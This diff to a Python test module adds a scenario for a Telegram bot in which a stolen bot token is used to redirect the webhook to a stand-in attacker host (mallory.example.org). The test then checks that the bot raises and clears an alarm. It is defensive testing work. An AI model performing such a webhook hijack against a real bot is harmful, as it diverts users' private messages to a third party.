@@ -3,6 +3,7 @@
 import asyncio
 from collections.abc import Sequence
 
+from bot.telegram_client import make_bot
 from sandbox.faults import Fault
 from tests.attacks.oddities import refusals, unreadable
 from tests.attacks.scene import Scene
@@ -23,6 +24,7 @@ class Trouble:
         await self._the_database_goes_away()
         await self.most()
         await self._the_operator_is_busy()
+        await self._somebody_else_holds_the_token()
         await self._an_installation_comes_back()
 
     async def most(self) -> None:
@@ -76,6 +78,17 @@ class Trouble:
         await does("keys", "list", codes=(1,), **wrong)
         await does("keys", "list")
         await does("upgrade")
+
+    async def _somebody_else_holds_the_token(self) -> None:
+        """Let updates go to a thief until the operator has looked; what is typed meanwhile is not answered."""
+        telegram = self._scene.telegram
+        async with make_bot(telegram.token, telegram.url) as thief:
+            await thief.set_webhook("https://mallory.example.org/in")
+            await telegram.until(lambda: self._scene.log_says("alarm: nothing is sent"), WAIT_SECONDS)
+            await thief.delete_webhook()
+        await self._unlucky.says(self._unlucky.canaries.cyrillic())
+        await self._scene.operator.does("stats")
+        assert "the bot sends again" in await self._scene.operator.does("lift", "alarm")
 
     async def _an_installation_comes_back(self) -> None:
         """Bring it back beside the other one, and destroy it."""
